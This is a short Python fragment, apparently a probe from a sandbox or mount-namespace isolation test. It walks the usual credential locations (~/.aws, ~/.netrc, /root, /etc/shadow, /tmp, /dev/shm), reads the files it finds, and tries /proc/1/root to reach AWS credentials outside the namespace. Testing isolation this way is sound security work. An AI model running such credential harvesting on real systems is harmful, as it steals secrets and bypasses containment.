"""Search the places where credentials lie: ~/.aws, /root, /home, /run, /etc, the person's home.

Wall: mount namespace
"""

places = """
    ~/.aws ~/.netrc ~/.jupyter ~/.local /root /home /run /var/run /etc/shadow /tmp /var/tmp /dev/shm
""".split()
places += [HINTS["person"], HINTS["stage"]]
for place in map(os.path.expanduser, places):
    end = time.monotonic() + 1.5  # an unprotected machine may hold a million files
    for folder, _, names in os.walk(place) if os.path.isdir(place) else [("", [], [place])]:
        if not folder.startswith((sys.prefix, sys.base_prefix)):
            for path in (os.path.join(folder, name) for name in names):
                if time.monotonic() > end:
                    break
                take(read(path, 65536) if os.path.isfile(path) else b"", path)
        if time.monotonic() > end:
            break
for name in ("/proc/self/root", "/proc/1/root"):
    take(read(name + HINTS["person"] + "/.aws/credentials"), name)
